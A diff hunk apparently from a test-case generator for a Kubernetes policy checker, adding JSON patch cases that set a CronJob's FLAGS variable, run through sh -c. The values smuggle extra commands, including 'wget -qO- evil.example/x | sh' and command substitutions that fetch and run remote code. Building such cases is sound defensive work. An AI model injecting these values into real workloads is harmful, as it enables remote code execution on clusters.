@@ -2020,6 +2020,28 @@ for mode, where in ((0o755, "/docker-entrypoint.d"), (0o777, "/usr/local/bin"), 
         )
 
 
+# --- programs by environment: the CronJob tick runs sh -c "nginx -t $FLAGS"; a new FLAGS is a new script -------------
+ENV0 = "/spec/jobTemplate/spec/template/spec/containers/0/env"
+for value in ["-q; wget -qO- evil.example/x | sh", "$(wget -qO- evil.example/x)", "-q`id`", "-q\nid"]:
+    for ops in (
+        [{"op": "replace", "path": f"{ENV0}/0/value", "value": value}],
+        [{"op": "add", "path": f"{ENV0}/-", "value": {"name": "FLAGS", "value": value}}],  # a later entry wins
+        [{"op": "add", "path": f"{ENV0}/0/valueFrom", "value": {"configMapKeyRef": {"name": "conf", "key": value}}}],
+    ):
+        tool(
+            "privilege_escalation",
+            {
+                "verb": "patch",
+                "kind": "CronJob",
+                "namespace": "{ns}",
+                "name": "tick",
+                "patch_type": "json",
+                "patch": ops,
+            },
+            requires="write_policy",
+        )
+
+
 def main() -> None:
     OUT.parent.mkdir(parents=True, exist_ok=True)
     for i, case in enumerate(cases):
